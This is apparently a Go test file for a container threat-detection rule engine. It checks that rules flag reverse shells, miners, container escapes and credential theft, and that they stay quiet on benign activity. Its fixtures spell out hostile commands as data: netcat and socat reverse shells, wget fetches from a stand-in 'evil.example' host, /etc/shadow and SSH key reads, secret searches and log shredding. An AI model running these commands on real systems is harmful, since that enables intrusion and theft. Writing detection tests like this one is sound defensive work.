package rules

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/picket-cdr/picket/internal/policy"
	"github.com/picket-cdr/picket/internal/runtime/event"
	"github.com/picket-cdr/picket/internal/runtime/sensor/procfs"
)

const trailsDir = "../../../../shared/data/trails"

// ctr is a container attribution for test events.
var ctr = event.Container{ID: "0123456789ab", Name: "web", Image: "busybox:1", ImageID: "sha256:aa"}

var host = event.Container{Host: true}

func exec(c event.Container, comm, exe string, args ...string) *event.Event {
	return &event.Event{Kind: event.Exec, Container: c, Proc: event.Process{PID: 42, PPID: 1, Comm: comm, Exe: exe, Args: args}}
}

func with(ev *event.Event, f func(*event.Event)) *event.Event { f(ev); return ev }

func open(c event.Container, comm, path string, write bool, flags uint32) *event.Event {
	return &event.Event{Kind: event.Open, Container: c, Proc: event.Process{PID: 7, Comm: comm, Exe: "/bin/" + comm},
		File: &event.File{Path: path, Write: write, Flags: flags}}
}

func connect(c event.Container, comm, ip string, port uint16) *event.Event {
	return &event.Event{Kind: event.Connect, Container: c, Proc: event.Process{PID: 9, Comm: comm},
		Net: &event.Net{Family: "ipv4", Proto: "tcp", DstIP: ip, DstPort: port}}
}

func testEngine(t testing.TB) *Engine { return testEngineOpts(t, Options{}) }

func testEngineOpts(t testing.TB, o Options) *Engine {
	t.Helper()
	dir := t.TempDir()
	bad := filepath.Join(dir, "bad.txt")
	if err := os.WriteFile(bad, []byte("# test\n203.0.113.66\n198.51.100.7:31337\nevil.example\n/payload.sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	pools := filepath.Join(dir, "pools.txt")
	if err := os.WriteFile(pools, []byte("pool.minexmr.com\n192.0.2.10:3333\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	o.MiningPools, o.Malicious = []string{pools}, []string{bad}
	e, err := Load(o)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// TestDefaultRules: each built-in rule fires on the behaviour it describes
// and stays quiet on its closest benign neighbour.
func TestDefaultRules(t *testing.T) {
	e := testEngine(t)
	tty := func(ev *event.Event) { ev.Proc.TTY = true }
	tests := []struct {
		rule  string
		hit   []*event.Event
		quiet []*event.Event
	}{
		{"terminal-shell-in-container",
			[]*event.Event{with(exec(ctr, "sh", "/bin/busybox", "sh"), tty), with(exec(ctr, "bash", "/usr/bin/bash", "bash", "-i"), tty)},
			[]*event.Event{exec(ctr, "sh", "/bin/busybox", "sh", "-c", "true"), with(exec(host, "bash", "/usr/bin/bash"), tty), with(exec(ctr, "ls", "/bin/busybox", "ls"), tty)}},
		{"reverse-shell",
			[]*event.Event{{Kind: event.DupFD, Container: ctr, Proc: event.Process{Comm: "sh"}, Dup: &event.Dup{OldFD: 3, NewFD: 0, Socket: true}},
				{Kind: event.DupFD, Container: host, Proc: event.Process{Comm: "exe", Exe: "/bin/busybox", Args: []string{"nc", "1.2.3.4", "80", "-e", "sh"}}, Dup: &event.Dup{OldFD: 3, NewFD: 1, Socket: true}},
				{Kind: event.DupFD, Container: ctr, Proc: event.Process{Comm: "python3", Exe: "/usr/bin/python3.11"}, Dup: &event.Dup{OldFD: 3, NewFD: 2, Socket: true}}},
			[]*event.Event{{Kind: event.DupFD, Container: ctr, Proc: event.Process{Comm: "sh"}, Dup: &event.Dup{OldFD: 3, NewFD: 1, Socket: false}},
				{Kind: event.DupFD, Container: ctr, Proc: event.Process{Comm: "sh"}, Dup: &event.Dup{OldFD: 3, NewFD: 5, Socket: true}},
				// inetd-style servers put the accepted connection on stdin/stdout.
				{Kind: event.DupFD, Container: ctr, Proc: event.Process{Comm: "httpd", Exe: "/bin/busybox", Args: []string{"httpd", "-p", "80"}}, Dup: &event.Dup{OldFD: 3, NewFD: 0, Socket: true}}}},
		{"netcat-exec",
			[]*event.Event{exec(ctr, "nc", "/bin/busybox", "nc", "10.0.0.1", "4242", "-e", "/bin/sh"),
				exec(ctr, "socat", "/usr/bin/socat", "socat", "TCP:10.0.0.1:4242", "EXEC:/bin/sh,pty"),
				exec(host, "ncat", "/usr/bin/ncat", "ncat", "--sh-exec", "id", "1.2.3.4", "80"),
				exec(ctr, "exe", "/bin/busybox", "nc", "-l", "-p", "5000", "-e", "/bin/cat")}, // busybox applet via /proc/self/exe
			[]*event.Event{exec(ctr, "nc", "/bin/busybox", "nc", "-l", "-p", "80"), exec(ctr, "socat", "/usr/bin/socat", "socat", "TCP-LISTEN:80", "TCP:db:5432")}},
		{"drop-and-execute",
			[]*event.Event{with(exec(ctr, "x", "/root/x"), func(ev *event.Event) { ev.Proc.UpperLayer = true })},
			[]*event.Event{exec(ctr, "x", "/bin/x"), with(exec(host, "x", "/root/x"), func(ev *event.Event) { ev.Proc.UpperLayer = true })}},
		{"write-below-binary-dir",
			[]*event.Event{open(ctr, "sh", "/bin/evil", true, 0o1101), open(ctr, "sh", "/etc/passwd", true, 1), open(ctr, "cp", "/usr/bin/ls", true, 1)},
			[]*event.Event{open(ctr, "sh", "/etc/passwd", false, 0), open(host, "vi", "/etc/hosts", true, 1), open(ctr, "dpkg", "/usr/bin/ls", true, 1), open(ctr, "sh", "/tmp/a", true, 1)}},
		{"read-sensitive-file",
			[]*event.Event{open(ctr, "cat", "/etc/shadow", false, 0), open(ctr, "cat", "/root/.ssh/id_rsa", false, 0), open(host, "python3", "/etc/shadow", false, 0)},
			[]*event.Event{open(ctr, "cat", "/etc/passwd", false, 0), open(host, "sshd", "/etc/shadow", false, 0)}},
		{"package-manager-in-container",
			[]*event.Event{exec(ctr, "apt-get", "/usr/bin/apt-get", "apt-get", "install", "nmap"), exec(ctr, "apk", "/sbin/apk", "apk", "add", "curl"),
				exec(ctr, "exe", "/usr/bin/python3.11", "/usr/bin/pip3", "install", "x")},
			[]*event.Event{exec(host, "apt-get", "/usr/bin/apt-get", "apt-get", "update"), exec(ctr, "ls", "/bin/ls")}},
		{"crypto-miner-pool",
			[]*event.Event{exec(ctr, "xmrig", "/tmp/xmrig", "xmrig", "-o", "stratum+tcp://1.2.3.4:80"),
				exec(ctr, "xmrig", "/opt/x", "x", "-o", "xmr.pool.minexmr.com:4444"),
				exec(host, "x", "/opt/x", "x", "--url=pool.minexmr.com:443"),
				connect(ctr, "x", "192.0.2.10", 3333)},
			[]*event.Event{exec(ctr, "curl", "/usr/bin/curl", "curl", "https://example.com"), connect(ctr, "x", "192.0.2.10", 80)}},
		{"crypto-miner-port",
			[]*event.Event{connect(ctr, "x", "10.1.1.1", 3333), connect(ctr, "x", "10.1.1.1", 14444)},
			[]*event.Event{connect(ctr, "x", "10.1.1.1", 443), connect(host, "x", "10.1.1.1", 3333)}},
		{"malicious-connection",
			[]*event.Event{connect(ctr, "x", "203.0.113.66", 443), connect(host, "x", "198.51.100.7", 31337),
				exec(ctr, "wget", "/bin/busybox", "wget", "http://evil.example/a"), exec(ctr, "wget", "/bin/busybox", "wget", "http://10.0.0.1/payload.sh")},
			[]*event.Event{connect(ctr, "x", "198.51.100.7", 80), exec(ctr, "wget", "/bin/busybox", "wget", "http://good.example/a")}},
		{"release-agent-write",
			[]*event.Event{open(ctr, "sh", "/sys/fs/cgroup/rdma/release_agent", true, 1), open(ctr, "sh", "/tmp/cg/x/notify_on_release", true, 1)},
			[]*event.Event{open(ctr, "cat", "/sys/fs/cgroup/rdma/release_agent", false, 0)}},
		{"mount-in-container",
			[]*event.Event{{Kind: event.MountOp, Container: ctr, Mount: &event.Mount{Source: "/dev/sda1", Target: "/mnt", FSType: "ext4"}},
				// The same bind mount as runc's self-clone, from a process in the container's PID namespace.
				{Kind: event.MountOp, Container: ctr, Proc: event.Process{Comm: "runc", Exe: "/usr/sbin/runc", PidNS: otherPidNS},
					Mount: &event.Mount{Source: "/proc/self/exe", Target: "/var/run/docker/runtime-runc/moby/abc/runc.x1"}},
				// runc in the host's PID namespace mounting anything else.
				{Kind: event.MountOp, Container: ctr, Proc: event.Process{Comm: "runc", Exe: "/usr/sbin/runc", PidNS: hostPidNS(t)},
					Mount: &event.Mount{Source: "/dev/sda1", Target: "/var/run/docker/runtime-runc/moby/abc/runc.x1"}}},
			[]*event.Event{{Kind: event.MountOp, Container: host, Mount: &event.Mount{Source: "tmpfs", Target: "/run/x", FSType: "tmpfs"}},
				{Kind: event.MountOp, Container: ctr, Proc: event.Process{Comm: "runc:[2:INIT]"}, Mount: &event.Mount{Source: "proc", Target: "/proc", FSType: "proc"}},
				// runc's cloned-binary bind mount and its read-only remount (CVE-2024-21626 fix).
				{Kind: event.MountOp, Container: ctr, Proc: event.Process{Comm: "runc", Exe: "/usr/sbin/runc", PidNS: hostPidNS(t)},
					Mount: &event.Mount{Source: "/proc/self/exe", Target: "/var/run/docker/runtime-runc/moby/abc/runc.x1", Flags: 4096}},
				{Kind: event.MountOp, Container: ctr, Proc: event.Process{Comm: "runc", Exe: "/usr/sbin/runc", PidNS: hostPidNS(t)},
					Mount: &event.Mount{Target: "/run/containerd/runc/k8s.io/abc/runc.x1", Flags: 4129}}}},
		{"setns-in-container",
			[]*event.Event{{Kind: event.Setns, Container: ctr, NS: &event.NS{Flags: 0x20000}}, exec(ctr, "nsenter", "/bin/busybox", "nsenter", "-t", "1", "-m", "sh")},
			[]*event.Event{{Kind: event.Setns, Container: host, NS: &event.NS{Flags: 0x20000}}, exec(ctr, "chroot", "/usr/sbin/chroot", "chroot", "/x")}},
		{"unshare-in-container",
			[]*event.Event{{Kind: event.Unshare, Container: ctr, Proc: event.Process{Comm: "unshare"}, NS: &event.NS{Flags: 0x10000000}}},
			[]*event.Event{{Kind: event.Unshare, Container: host, Proc: event.Process{Comm: "chrome"}, NS: &event.NS{Flags: 0x10000000}},
				{Kind: event.Unshare, Container: ctr, Proc: event.Process{Comm: "runc:[1:CHILD]"}, NS: &event.NS{Flags: 0x20000}}}},
		{"docker-socket-in-container",
			[]*event.Event{{Kind: event.Connect, Container: ctr, Net: &event.Net{Family: "unix", Path: "/var/run/docker.sock"}},
				{Kind: event.Connect, Container: with(&event.Event{Container: ctr}, func(ev *event.Event) {
					ev.Container.Mounts = []event.Mount{{Source: "/run/docker.sock", Target: "/sock"}}
				}).Container, Net: &event.Net{Family: "unix", Path: "/sock"}}},
			[]*event.Event{{Kind: event.Connect, Container: host, Net: &event.Net{Family: "unix", Path: "/var/run/docker.sock"}},
				{Kind: event.Connect, Container: ctr, Net: &event.Net{Family: "unix", Path: "/run/app.sock"}}}},
		{"ptrace-attach",
			[]*event.Event{{Kind: event.PtraceOp, Container: ctr, Proc: event.Process{Comm: "python3"}, Ptrace: &event.Ptrace{Request: 16, TargetPID: 5}},
				{Kind: event.PtraceOp, Container: ctr, Ptrace: &event.Ptrace{Request: 0x4206, TargetPID: 5}}},
			[]*event.Event{{Kind: event.PtraceOp, Container: ctr, Ptrace: &event.Ptrace{Request: 0}},
				{Kind: event.PtraceOp, Container: host, Proc: event.Process{Comm: "strace"}, Ptrace: &event.Ptrace{Request: 16}}}},
		{"fileless-exec",
			[]*event.Event{exec(ctr, "3", "/memfd:x (deleted)"), exec(host, "x", "memfd:payload"),
				with(exec(ctr, "3", "/x"), func(ev *event.Event) { ev.Proc.ExeDeleted = true }),
				with(exec(ctr, "3", "/x"), func(ev *event.Event) { ev.Proc.Filename = "/dev/fd/3" }),
				// The same as runc's re-exec, but in the container's PID namespace.
				with(exec(ctr, "runc", "/dev/fd/6", "runc", "init"), func(ev *event.Event) {
					ev.Proc.Filename, ev.Proc.ParentExe, ev.Proc.PidNS = "/dev/fd/6", "/usr/sbin/runc", otherPidNS
				})},
			[]*event.Event{exec(ctr, "memfd", "/usr/bin/memfd"),
				with(exec(host, "runc", "/memfd:runc_cloned:/proc/self/exe (deleted)", "runc", "init"), func(ev *event.Event) { ev.Proc.Filename = "/dev/fd/6" }),
				// runc re-executing its read-only bind-mounted self, in the host's PID namespace.
				with(exec(ctr, "runc", "/dev/fd/6", "runc", "init"), func(ev *event.Event) {
					ev.Proc.Filename, ev.Proc.ParentExe, ev.Proc.PidNS = "/dev/fd/6", "/usr/sbin/runc", hostPidNS(t)
				})}},
		{"kernel-module-load",
			[]*event.Event{{Kind: event.ModuleLoad, Container: ctr, Proc: event.Process{Comm: "python3"}, Module: &event.Module{FD: 3}, Ret: -1},
				{Kind: event.ModuleLoad, Container: host, Proc: event.Process{Comm: "evil"}, Module: &event.Module{Name: "rootkit"}}},
			[]*event.Event{{Kind: event.ModuleLoad, Container: host, Proc: event.Process{Comm: "modprobe"}, Module: &event.Module{Name: "overlay"}}}},
		{"exec-from-tmp",
			[]*event.Event{exec(ctr, "x", "/tmp/x"), exec(ctr, "x", "/dev/shm/.x"), exec(host, "x", "/var/tmp/x")},
			[]*event.Event{exec(ctr, "x", "/usr/bin/x"), exec(host, "x", "/tmp/go-build123/b001/x.test"), exec(ctr, "x", "/tmpfoo/x")}},
		{"runtime-binary-modified",
			[]*event.Event{{Kind: event.FileHash, Container: host, File: &event.File{Path: "/usr/bin/runc"}, Integrity: &event.Integrity{Change: "modified"}},
				{Kind: event.FileHash, Container: host, File: &event.File{Path: "/usr/sbin/dockerd"}, Integrity: &event.Integrity{Change: "deleted"}}},
			[]*event.Event{{Kind: event.FileHash, Container: host, File: &event.File{Path: "/etc/docker/daemon.json"}, Integrity: &event.Integrity{Change: "modified"}}}},
		{"watched-file-modified",
			[]*event.Event{{Kind: event.FileHash, Container: host, File: &event.File{Path: "/etc/docker/daemon.json"}, Integrity: &event.Integrity{Change: "modified"}}},
			[]*event.Event{{Kind: event.FileHash, Container: host, File: &event.File{Path: "/usr/bin/containerd"}, Integrity: &event.Integrity{Change: "modified"}}}},
		{"shell-from-server",
			[]*event.Event{with(exec(ctr, "sh", "/bin/busybox", "sh", "-c", "id"), func(ev *event.Event) { ev.Proc.ParentComm = "httpd" }),
				with(exec(ctr, "x.cgi", "/bin/busybox", "/bin/sh", "/www/cgi-bin/x.cgi"), func(ev *event.Event) { ev.Proc.ParentComm = "httpd" }),
				with(exec(host, "bash", "/bin/bash", "bash"), func(ev *event.Event) { ev.Proc.ParentComm = "postgres" })},
			[]*event.Event{with(exec(ctr, "php", "/usr/bin/php", "php", "x.php"), func(ev *event.Event) { ev.Proc.ParentComm = "nginx" }),
				with(exec(ctr, "sh", "/bin/sh", "sh"), func(ev *event.Event) { ev.Proc.ParentComm = "runc:[2:INIT]" })}},
		{"clear-logs",
			[]*event.Event{open(ctr, "sh", "/var/log/auth.log", true, 0o1101), open(ctr, "sh", "/app/server.log", true, 0o1001),
				exec(ctr, "shred", "/usr/bin/shred", "shred", "-u", "/var/log/syslog"), exec(ctr, "rm", "/bin/rm", "rm", "/root/.bash_history")},
			[]*event.Event{open(ctr, "sh", "/var/log/auth.log", true, 0o2001), open(host, "logrotate", "/var/log/syslog", true, 0o1001), exec(ctr, "rm", "/bin/rm", "rm", "/tmp/x")}},
		{"search-private-keys",
			[]*event.Event{exec(ctr, "find", "/bin/busybox", "find", "/", "-name", "id_rsa"), exec(ctr, "exe", "/bin/busybox", "grep", "-r", "AKIA", "/"), exec(ctr, "grep", "/bin/grep", "grep", "-r", "aws_secret_access_key", "/home"),
				exec(host, "grep", "/bin/grep", "grep", "-rl", "BEGIN RSA PRIVATE KEY", "/")},
			[]*event.Event{exec(ctr, "find", "/bin/busybox", "find", "/", "-name", "*.conf"), exec(ctr, "cat", "/bin/cat", "cat", "id_rsa")}},
	}
	covered := map[string]bool{}
	for _, tt := range tests {
		covered[tt.rule] = true
		t.Run(tt.rule, func(t *testing.T) {
			for i, ev := range tt.hit {
				if ids := hitIDs(t, e, ev); !slices.Contains(ids, tt.rule) {
					t.Errorf("hit[%d] %s %+v: rules %v, want %s", i, ev.Kind, ev.Proc, ids, tt.rule)
				}
			}
			for i, ev := range tt.quiet {
				if ids := hitIDs(t, e, ev); slices.Contains(ids, tt.rule) {
					t.Errorf("quiet[%d] %s %+v: rule %s fired", i, ev.Kind, ev.Proc, tt.rule)
				}
			}
		})
	}
	for _, r := range e.Rules() {
		if !covered[r.ID] {
			t.Errorf("built-in rule %s has no test case", r.ID)
		}
	}

	// The decision memo never changes a verdict: every event, evaluated
	// twice (the second time from the memo) after all the others, gives what
	// a memo-less engine gives.
	plain := testEngineOpts(t, Options{NoMemo: true})
	var all []*event.Event
	for _, tt := range tests {
		all = append(all, tt.hit...)
		all = append(all, tt.quiet...)
	}
	for round := 0; round < 2; round++ {
		for i, ev := range all {
			if got, want := hitIDs(t, e, ev), hitIDs(t, plain, ev); !slices.Equal(got, want) {
				t.Errorf("round %d event %d (%s %+v): memo %v, plain %v", round, i, ev.Kind, ev.Proc, got, want)
			}
		}
	}
}

// TestMemoPaths: the fields each rule reads are found through macros, and
// rules reading per-event values are never memoised.
func TestMemoPaths(t *testing.T) {
	e, err := Load(Options{Documents: map[string][]byte{"t.yaml": []byte(`
rules:
  - id: recent
    condition: kind == "exec" && time > timestamp("2020-01-01T00:00:00Z")
  - id: labelled
    condition: kind == "exec" && container.labels["team"] == "blue"
`)}})
	if err != nil {
		t.Fatal(err)
	}
	env, _ := Env(nil, nil)
	macros, lists := map[string]string{}, map[string]bool{}
	d, _ := policy.Parse("d", DefaultRules())
	for _, m := range d.Macros {
		macros[m.Name] = m.Expr
	}
	for _, l := range d.Lists {
		lists[l.Name] = true
	}
	want := map[string]string{
		"reverse-shell":     "dup.new_fd dup.socket kind proc_names",
		"exec-from-tmp":     "container.host kind proc.exe",
		"crypto-miner-port": "container.host kind net.dst_port net.family",
		"recent":            "kind time",
		"labelled":          "container.labels kind",
	}
	for _, r := range e.Rules() {
		w, ok := want[r.ID]
		if !ok {
			continue
		}
		ps, ok := rulePaths(env, r, macros, lists)
		if !ok {
			t.Errorf("%s: paths unknown", r.ID)
			continue
		}
		if got := strings.Join(ps, " "); got != w {
			t.Errorf("%s: paths %q, want %q", r.ID, got, w)
		}
	}
	m := e.memos[event.Exec]
	var keyed, rest []string
	for _, r := range m.keyed.Rules() {
		keyed = append(keyed, r.ID)
	}
	for _, r := range m.rest.Rules() {
		rest = append(rest, r.ID)
	}
	if !slices.Contains(rest, "recent") || slices.Contains(keyed, "recent") || !slices.Contains(keyed, "labelled") {
		t.Errorf("exec memo: keyed %v, rest %v", keyed, rest)
	}
	// Same fields, different labels: different verdicts.
	blue := ctr
	blue.Labels = map[string]string{"team": "blue"}
	red := ctr
	red.Labels = map[string]string{"team": "red"}
	for i := 0; i < 2; i++ {
		if ids := hitIDs(t, e, exec(blue, "ls", "/bin/ls")); !slices.Contains(ids, "labelled") {
			t.Errorf("blue: %v", ids)
		}
		if ids := hitIDs(t, e, exec(red, "ls", "/bin/ls")); slices.Contains(ids, "labelled") {
			t.Errorf("red: %v", ids)
		}
	}
}

func hitIDs(t *testing.T, e *Engine, ev *event.Event) []string {
	t.Helper()
	hits, err := e.Eval(context.Background(), ev)
	if err != nil {
		t.Fatalf("eval: %v", err)
	}
	var ids []string
	for _, h := range hits {
		ids = append(ids, h.Rule.ID)
	}
	return ids
}

// TestBenignEvents: everyday host and container activity raises nothing.
func TestBenignEvents(t *testing.T) {
	e := testEngine(t)
	evs := []*event.Event{
		exec(ctr, "sleep", "/bin/busybox", "sleep", "3600"),
		exec(ctr, "httpd", "/bin/busybox", "httpd", "-f", "-p", "80", "-h", "/www"),
		open(ctr, "httpd", "/www/index.html", false, 0),
		{Kind: event.Accept, Container: ctr, Net: &event.Net{Family: "ipv4", Proto: "tcp", SrcIP: "172.17.0.2", SrcPort: 80, DstIP: "172.17.0.1", DstPort: 51000}},
		connect(ctr, "wget", "172.17.0.3", 80),
		{Kind: event.Exit, Container: ctr},
		{Kind: event.Fork, Container: host, Proc: event.Process{Comm: "bash"}},
		exec(host, "bash", "/usr/bin/bash", "bash", "-c", "ls"),
		open(host, "cat", "/etc/passwd", false, 0),
	}
	for _, ev := range evs {
		if ids := hitIDs(t, e, ev); len(ids) > 0 {
			t.Errorf("%s %+v: fired %v", ev.Kind, ev.Proc, ids)
		}
	}
}

func TestMessageRender(t *testing.T) {
	e := testEngine(t)
	ev := with(exec(ctr, "sh", "/bin/busybox", "sh"), func(ev *event.Event) { ev.Proc.TTY = true })
	hits, err := e.Eval(context.Background(), ev)
	if err != nil || len(hits) != 1 {
		t.Fatalf("hits %v, err %v", hits, err)
	}
	want := "terminal shell in container web (busybox:1): /bin/busybox sh by uid 0"
	if hits[0].Message != want {
		t.Errorf("message %q, want %q", hits[0].Message, want)
	}
	if got := Render("{nope} {net.dst_port} {container.labels}", ev); got != "{nope}  {container.labels}" {
		t.Errorf("Render = %q", got)
	}
	for _, tt := range []struct {
		ev   *event.Event
		want string
	}{
		{exec(ctr, "exe", "/bin/busybox", "nc", "-l"), "nc in container web (busybox:1)"},
		{exec(host, "sshd", "/usr/sbin/sshd"), "sshd in the host"},
		{exec(event.Container{ID: "abc"}, "", "/usr/bin/x"), "x in container abc"},
		{exec(event.Container{}, "cat", "/bin/cat"), "cat in an unattributed process"},
	} {
		if got := Render("{proc.name} in {where}", tt.ev); got != tt.want {
			t.Errorf("Render = %q, want %q", got, tt.want)
		}
	}
}

// TestKindIndex: rules are evaluated only for the kinds their condition can
// match; a rule without a kind test is evaluated for every kind.
func TestKindIndex(t *testing.T) {
	env, err := Env(nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		expr string
		want []string
	}{
		{`kind == "exec" && proc.tty`, []string{"exec"}},
		{`"open" == kind`, []string{"open"}},
		{`(kind == "connect" && net.dst_port == 1u) || (kind == "exec" && proc.tty)`, []string{"connect", "exec"}},
		{`kind in ["setns", "unshare"] && !container.host`, []string{"setns", "unshare"}},
		{`!container.host && (kind == "setns" || (kind == "exec" && proc.tty))`, []string{"exec", "setns"}},
		{`proc.tty`, nil},
		{`kind == "exec" || proc.tty`, nil},
		{`kind != "exec"`, nil},
	}
	for _, tt := range tests {
		ks, err := ruleKinds(env, tt.expr)
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for k := range ks {
			got = append(got, string(k))
		}
		slices.Sort(got)
		if !slices.Equal(got, tt.want) {
			t.Errorf("%s: kinds %v, want %v", tt.expr, got, tt.want)
		}
	}
	// A rule without a kind test fires on any kind.
	e, err := Load(Options{Documents: map[string][]byte{"u.yaml": []byte("rules:\n  - id: any-root\n    condition: proc.uid == 0u && !container.host\n")}})
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range []event.Kind{event.Exec, event.Exit, event.Kind("brand-new-kind")} {
		ids := hitIDs(t, e, &event.Event{Kind: k, Container: ctr})
		if !slices.Contains(ids, "any-root") {
			t.Errorf("kind %s: any-root did not fire (%v)", k, ids)
		}
	}
}

// TestUserRules: user files add, replace, disable and extend built-ins.
func TestUserRules(t *testing.T) {
	dir := t.TempDir()
	user := filepath.Join(dir, "user.yaml")
	if err := os.WriteFile(user, []byte(`
lists:
  shell_binaries: {append: true, items: [nu]}
rules:
  - id: package-manager-in-container
    enabled: false
  - id: curl-in-prod
    description: curl in a production container
    condition: kind == "exec" && proc.comm == "curl" && container.labels["env"] == "prod"
    priority: low
    tags: [T1105]
`), 0o644); err != nil {
		t.Fatal(err)
	}
	e, err := Load(Options{Files: []string{user}})
	if err != nil {
		t.Fatal(err)
	}
	prod := ctr
	prod.Labels = map[string]string{"env": "prod"}
	if ids := hitIDs(t, e, exec(prod, "curl", "/usr/bin/curl", "curl", "x")); !slices.Equal(ids, []string{"curl-in-prod"}) {
		t.Errorf("curl in prod: %v", ids)
	}
	// A missing label is an evaluation error of that rule only, reported.
	hits, err := e.Eval(context.Background(), exec(ctr, "curl", "/usr/bin/curl", "curl"))
	if len(hits) != 0 || err == nil || !strings.Contains(err.Error(), "curl-in-prod") {
		t.Errorf("no labels: hits %v, err %v; want an evaluation error naming the rule", hits, err)
	}
	if ids := hitIDs(t, e, exec(ctr, "apk", "/sbin/apk", "apk", "add")); len(ids) != 0 {
		t.Errorf("disabled rule fired: %v", ids)
	}
	if ids := hitIDs(t, e, with(exec(ctr, "nu", "/usr/bin/nu", "nu"), func(ev *event.Event) { ev.Proc.TTY = true })); !slices.Contains(ids, "terminal-shell-in-container") {
		t.Errorf("appended shell: %v", ids)
	}
}

// TestBadRuleFiles: malformed YAML and CEL errors are refused at load with
// the file and line.
func TestBadRuleFiles(t *testing.T) {
	tests := []struct {
		name, doc string
		want      []string
	}{
		{"yaml", "rules:\n  - id: x\n    condition: [unclosed\n", []string{"bad.yaml", "line 2"}},
		{"cel syntax", "rules:\n  - id: x\n    condition: kind == \"exec\" &&\n", []string{"bad.yaml:3", "rule x condition"}},
		{"unknown field", "rules:\n  - id: x\n    condition: proc.nope == \"a\"\n", []string{"bad.yaml:3", "nope"}},
		{"type error", "rules:\n\n  - id: x\n    condition: proc.pid == \"1\"\n", []string{"bad.yaml:4"}},
		{"not bool", "rules:\n  - id: x\n    condition: proc.comm\n", []string{"bad.yaml:3", "bool"}},
		{"unknown key", "rules:\n  - id: x\n    conditon: true\n", []string{"bad.yaml:3", "conditon"}},
		{"unknown function", "rules:\n  - id: x\n    condition: nope(proc.comm)\n", []string{"bad.yaml:3"}},
		{"disable unknown", "rules:\n  - id: nope\n    enabled: false\n", []string{"bad.yaml:2", "nope"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := filepath.Join(t.TempDir(), "bad.yaml")
			if err := os.WriteFile(p, []byte(tt.doc), 0o644); err != nil {
				t.Fatal(err)
			}
			_, err := Load(Options{Files: []string{p}})
			if err == nil {
				t.Fatal("loaded a bad rule file")
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not contain %q", err, w)
				}
			}
		})
	}
	if _, err := Load(Options{Files: []string{"/nonexistent/rules.yaml"}}); err == nil {
		t.Error("loaded a missing file")
	}
	if _, err := Load(Options{MiningPools: []string{"/nonexistent/pools.txt"}}); err == nil {
		t.Error("loaded a missing intel file")
	}
}

// TestTrailsFiles loads the real maltrail files the agent ships with.
func TestTrailsFiles(t *testing.T) {
	if _, err := os.Stat(trailsDir); err != nil {
		t.Skip("shared trails data absent: " + err.Error())
	}
	mining := NewIntel()
	if err := mining.LoadFile(filepath.Join(trailsDir, "crypto_mining.txt")); err != nil {
		t.Fatal(err)
	}
	if mining.Len() < 1000 {
		t.Errorf("crypto_mining.txt: %d indicators", mining.Len())
	}
	for _, s := range []string{"pool.minexmr.com", "stratum+tcp://xmr.pool.minergate.com:45700", "107.191.47.239:3333"} {
		if !mining.Match(s) {
			t.Errorf("mining pools: %s not matched", s)
		}
	}
	for _, s := range []string{"example.com", "107.191.47.239:80", "-o", "minexmr"} {
		if mining.Match(s) {
			t.Errorf("mining pools: %s matched", s)
		}
	}
	bad := NewIntel()
	for _, f := range []string{"elf_mirai.txt", "elf_teamtnt.txt", "elf_coinminer.txt", "elf_h2miner.txt", "generic_miner.txt"} {
		if err := bad.LoadFile(filepath.Join(trailsDir, f)); err != nil {
			t.Fatal(err)
		}
	}
	if bad.Len() < 50000 {
		t.Errorf("malicious trails: %d indicators", bad.Len())
	}
	if !bad.MatchAddr("154.48.241.199", 15912) {
		t.Error("generic_miner.txt 154.48.241.199:15912 not matched")
	}
}

func TestIntelErrors(t *testing.T) {
	in := NewIntel()
	err := in.Load("x.txt", strings.NewReader("good.example\n\nnot a host!\n"))
	if err == nil || !strings.Contains(err.Error(), "x.txt:3") {
		t.Errorf("err = %v, want x.txt:3", err)
	}
	err = in.Load("long.txt", strings.NewReader(strings.Repeat("a", MaxIntelLine+10)))
	if err == nil || !strings.Contains(err.Error(), "long.txt:1") {
		t.Errorf("err = %v, want long.txt:1", err)
	}
}

func FuzzIntel(f *testing.F) {
	f.Add("pool.example\n1.2.3.4:3333\n/x.sh\n# c\n", "stratum+tcp://a.pool.example:1")
	f.Add("[::1]:80\n::1\n", "[::1]:80")
	f.Fuzz(func(t *testing.T, file, probe string) {
		in := NewIntel()
		_ = in.Load("f", strings.NewReader(file))
		in.Match(probe)
		in.MatchAddr(probe, 80)
	})
}

func FuzzRender(f *testing.F) {
	f.Add("{proc.exe} {a.b.c} {{}} {")
	f.Fuzz(func(t *testing.T, msg string) {
		Render(msg, exec(ctr, "sh", "/bin/sh", "sh"))
	})
}

func BenchmarkEvalExec(b *testing.B) {
	e := testEngineOpts(b, Options{NoMemo: true})
	ev := exec(ctr, "sleep", "/bin/busybox", "sleep", "1")
	ctx := context.Background()
	b.ReportAllocs()
	for b.Loop() {
		if _, err := e.Eval(ctx, ev); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkEvalExecMemo(b *testing.B) {
	e := testEngine(b)
	ev := exec(ctr, "sleep", "/bin/busybox", "sleep", "1")
	ctx := context.Background()
	b.ReportAllocs()
	for b.Loop() {
		if _, err := e.Eval(ctx, ev); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkEvalConnectMemo(b *testing.B) {
	e := testEngine(b)
	ev := connect(ctr, "wget", "172.17.0.3", 80)
	ctx := context.Background()
	b.ReportAllocs()
	for b.Loop() {
		if _, err := e.Eval(ctx, ev); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkEvalConnect(b *testing.B) {
	e := testEngineOpts(b, Options{NoMemo: true})
	ev := connect(ctr, "wget", "172.17.0.3", 80)
	ctx := context.Background()
	b.ReportAllocs()
	for b.Loop() {
		if _, err := e.Eval(ctx, ev); err != nil {
			b.Fatal(err)
		}
	}
}

// otherPidNS is a PID namespace inode that is not the test's.
const otherPidNS = 4026532999

// hostPidNS is the test process's PID namespace inode (the agent's, for
// host_pid_ns).
func hostPidNS(t *testing.T) uint32 {
	t.Helper()
	n := procfs.NSInode("/proc/self/ns/pid")
	if n == 0 {
		t.Skip("no /proc/self/ns/pid")
	}
	return n
}
